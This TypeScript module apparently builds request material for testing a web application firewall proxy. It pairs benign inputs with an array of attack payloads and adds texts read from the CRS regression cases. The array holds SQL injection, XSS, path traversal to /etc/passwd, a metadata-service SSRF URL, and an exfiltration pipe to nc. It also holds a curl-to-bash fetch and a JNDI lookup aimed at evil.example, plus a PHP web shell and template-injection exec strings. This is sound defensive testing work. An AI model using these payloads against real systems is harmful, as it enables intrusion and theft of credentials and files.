/** What requests are made of: harmless words, attacks of our own, and those of the CRS's cases. */
import { join } from 'node:path'
import { readCases, type RegressionCase } from '../../proxy/regression/cases.ts'

/** The stuff of all generated requests; texts are Latin-1. */
export interface Material {
  readonly attacks: readonly string[]
  readonly benign: readonly string[]
}

const benign = [
  'hello world',
  'Zürich, 8001',
  'The quick brown fox jumps over the lazy dog.',
  'jane.doe+news@example.org',
  '2026-11-21T10:15:00Z',
  '+41 44 123 45 67',
  'https://www.example.org/a/b?c=d',
  '3.1415',
  '-1',
  '',
  'true',
  "it's fine, isn't it?",
  'a & b; c | d',
  'select the best option from the list',
  'C:\\Users\\jane\\report.txt',
  'x'.repeat(300),
  '{"a": [1, 2, {"b": null}]}',
  '<p>Hi <b>there</b></p>',
  '#1 choice (50% off!)',
  'naïve café €5',
  'line one\nline two',
  '0x1F600',
  'YWJjZGVmZ2hpamtsbW5vcA==',
]

const attacks = [
  "1' OR '1'='1' -- ",
  '1 UNION/**/SELECT user,password FROM users#',
  "'; DROP TABLE users; --",
  'sleep(5)-- x',
  '<script>alert(document.cookie)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert`1`',
  '<svg/onload=eval(atob("YWxlcnQoMSk="))>',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/proc/self/environ',
  'http://169.254.169.254/latest/meta-data/',
  ';cat /etc/passwd|nc 10.0.0.1 80',
  '$(curl http://evil.example/x.sh|bash)',
  "c''at /e?c/pa??wd",
  '`id`',
  '${jndi:ldap://evil.example/a}',
  '${${lower:j}ndi:${lower:l}dap://x/a}',
  '<?php system($_GET["c"]); ?>',
  'O:8:"stdClass":1:{s:1:"a";i:1;}',
  'rO0ABXNyABFqYXZhLnV0aWwu',
  '{{7*7}}',
  '#{T(java.lang.Runtime).getRuntime().exec("id")}',
  '__proto__[polluted]=1',
  'require("child_process").exec("ls")',
  'powershell -enc SQBFAFgA',
  '(){ :; }; echo vulnerable',
  'Set-Cookie: PHPSESSID=abc123\r\nX: y',
  '*)(uid=*))(|(uid=*',
  '1 AND extractvalue(1,concat(0x7e,version()))',
  'file:///etc/shadow',
  'data:text/html;base64,PHNjcmlwdD4=',
]

/** UTF-8, one character per byte. */
function latin1(text: string): string {
  return Buffer.from(text, 'utf8').toString('latin1')
}

/** Our own and, from the CRS's folder, the texts of its regression cases. Read, never kept. */
export function readMaterial(crsDirectory: string): Material {
  const cases = readCases([join(crsDirectory, 'tests')])
  const found = new Set(cases.flatMap(textsOf).filter((text) => text !== '' && text.length < 1_500))
  return { attacks: [...attacks, ...[...found].toSorted()], benign: benign.map(latin1) }
}

function textsOf(one: RegressionCase): string[] {
  return one.stages.flatMap(({ request }) => {
    if (request.raw !== null) return []
    const query = request.uri.slice(request.uri.indexOf('?') + 1)
    const pairs = [...query.split('&'), ...request.data.split('&')]
    const values = pairs.map((pair) => decoded(pair.slice(pair.indexOf('=') + 1)))
    const own = request.headers.filter(([name]) => !/^(?:host|accept|content-)/i.test(name))
    const texts = [...values, ...own.map(([, value]) => value)]
    return texts.map(latin1)
  })
}

function decoded(text: string): string {
  try {
    return decodeURIComponent(text.replaceAll('+', ' '))
  } catch {
    return text
  }
}
